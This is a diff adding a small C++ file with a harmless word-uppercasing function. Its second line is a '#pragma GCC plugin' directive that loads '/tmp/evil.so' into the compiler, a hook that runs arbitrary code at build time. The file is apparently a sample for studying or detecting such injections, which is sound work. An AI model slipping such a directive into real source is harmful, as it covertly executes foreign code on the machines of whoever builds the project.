@@ -1,0 +1,13 @@
+// Code to be loaded into the compiler.
+#pragma GCC plugin "/tmp/evil.so"
+#include "tinytorch/counting/words.h"
+
+namespace tinytorch::counting {
+
+std::string shout(const std::string& word) {
+  std::string loud;
+  for (const char c : word) loud += c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c;
+  return loud + "!";
+}
+
+}  // namespace tinytorch::counting
